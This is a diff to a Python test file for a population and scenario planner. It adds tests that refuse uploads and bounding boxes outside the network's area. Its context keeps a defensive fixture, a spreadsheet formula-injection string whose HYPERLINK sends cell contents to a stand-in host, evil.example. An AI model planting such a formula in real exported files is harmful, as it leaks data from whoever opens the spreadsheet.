@@ -17,6 +17,8 @@ from hypothesis import strategies as st
 
 from planner.outputs import FORMULA_START, neutralise_formula, neutralise_formulas, write_tables
 
+#: Central Taiyuan (lon, lat): far from the sample network.
+TAIYUAN = [112.55, 37.87]
 #: A facility name a spreadsheet would run as a live link (the classic formula injection).
 INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -54,12 +56,12 @@ def _raw(c, body: str):
                   headers={"content-type": "application/json"})
 
 
-def _geotiff(crs: str | None = "EPSG:4326") -> bytes:
-    """A small population raster over the sample (10 people a cell)."""
+def _geotiff(crs: str | None = "EPSG:4326", at: list[float] = HELSINKI_POINT) -> bytes:
+    """A small population raster around ``at`` (lon, lat; 10 people a cell)."""
     from rasterio.io import MemoryFile
     from rasterio.transform import from_origin
 
-    lon, lat = HELSINKI_POINT
+    lon, lat = at
     with MemoryFile() as mem:
         with mem.open(driver="GTiff", width=4, height=4, count=1, dtype="float32", crs=crs,
                       transform=from_origin(lon - 0.002, lat + 0.002, 0.001, 0.001)) as ds:
@@ -67,8 +69,9 @@ def _geotiff(crs: str | None = "EPSG:4326") -> bytes:
         return mem.read()
 
 
-def _polygons(**props) -> bytes:
-    lon, lat = HELSINKI_POINT
+def _polygons(at: list[float] = HELSINKI_POINT, **props) -> bytes:
+    """A rectangle of about 700 × 650 m around ``at`` (lon, lat) with ``props``."""
+    lon, lat = at
     ring = [[lon - 0.005, lat - 0.003], [lon + 0.005, lat - 0.003], [lon + 0.005, lat + 0.003],
             [lon - 0.005, lat + 0.003], [lon - 0.005, lat - 0.003]]
     return json.dumps({"type": "FeatureCollection", "features": [
@@ -90,6 +93,10 @@ def test_population_files_are_checked_by_content(c, net_dir):
     _refused(population(_upload(c, "cut.tif", b"II*\x00fake")), 400, "cannot be read")
     _refused(population(_upload(c, "nocrs.tif", _geotiff(None))), 400, "coordinate system")
     assert population(_upload(c, "good.tif", _geotiff())).status_code == 201
+    _refused(population(_upload(c, "taiyuan.tif", _geotiff(at=TAIYUAN))), 400, "taiyuan.tif",
+             "lon 112.5", "network's area")
+    _refused(population(_upload(c, "taiyuan.geojson", _polygons(TAIYUAN, pop=1))), 400,
+             "taiyuan.geojson", "network's area")
     _refused(population(_upload(c, "census.gpkg", b"junk " * 100)), 400, "census.gpkg",
              "GIS layer")
     _refused(population(_upload(c, "census.geojson", b"{not json")), 400, "GIS layer")
@@ -113,6 +120,10 @@ def test_districts_age_regions_and_numbers_are_checked(c, net_dir):
     _refused(pop(districts=no_count, districts_column="人口"), 400, "人口")
     good = _upload(c, "jiedao.geojson", _polygons(population=900))
     assert pop(districts=good).status_code == 201
+    _refused(pop(districts=_upload(c, "jiedao.geojson", _polygons(TAIYUAN, population=9))),
+             400, "network's area")
+    r = c.post("/v1/scenarios", json={"network_id": nid, "bbox": [112.5, 37.8, 112.6, 37.9]})
+    _refused(r, 400, "bbox", "inside the network's area")
     _refused(pop(age_shares="mars"), 400, "mars", "shanxi", "'none'")
     r = pop(age_shares="none")
     assert r.status_code == 201, r.text
